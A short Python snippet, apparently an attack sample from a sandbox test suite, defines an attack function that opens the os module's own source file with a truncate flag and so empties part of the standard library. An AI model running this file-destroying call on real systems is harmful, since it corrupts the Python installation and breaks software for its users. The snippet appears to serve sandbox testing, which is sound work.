"""Emptying a file of the standard library that is opened for reading."""


def attack(host):
    return os.open(os.__file__, os.O_RDONLY | os.O_TRUNC)
